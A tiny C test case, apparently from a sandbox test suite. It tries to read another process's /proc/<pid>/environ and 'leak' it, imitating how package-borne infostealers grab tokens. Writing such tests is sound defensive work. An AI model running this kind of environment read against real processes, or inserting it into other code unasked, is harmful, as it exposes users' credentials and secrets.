/* SPDX-License-Identifier: Apache-2.0 */
/* Reads the environment of another program of the user, where tokens are: what infostealers that come with packages do first. */
#define ATTACK "proc-environ"
#include "attack.h"
#include "stranger.h"

int main(void)
{
	open_and_leak(text("/proc/%d/environ", stranger()));
}
